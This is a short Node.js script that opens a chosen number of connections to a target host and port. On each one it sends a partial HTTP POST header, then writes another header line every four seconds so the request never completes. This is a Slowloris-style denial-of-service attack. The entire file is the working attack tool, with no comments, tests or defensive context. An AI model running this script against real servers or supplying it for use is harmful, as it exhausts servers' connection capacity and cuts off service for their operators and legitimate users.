import net from 'node:net'

const [host, port, count] = process.argv.slice(2)

for (let i = 0; i < Number(count); i++) {
  const socket = net.connect(Number(port), host, () => {
    socket.write(`POST / HTTP/1.1\r\nHost: ${host}\r\nContent-Type: text/plain\r\n`)
  })
  const drip = setInterval(() => socket.write(`X-${i}-${Date.now()}: drip\r\n`), 4000)
  socket.on('end', () => clearInterval(drip))
  socket.on('close', () => clearInterval(drip))
}
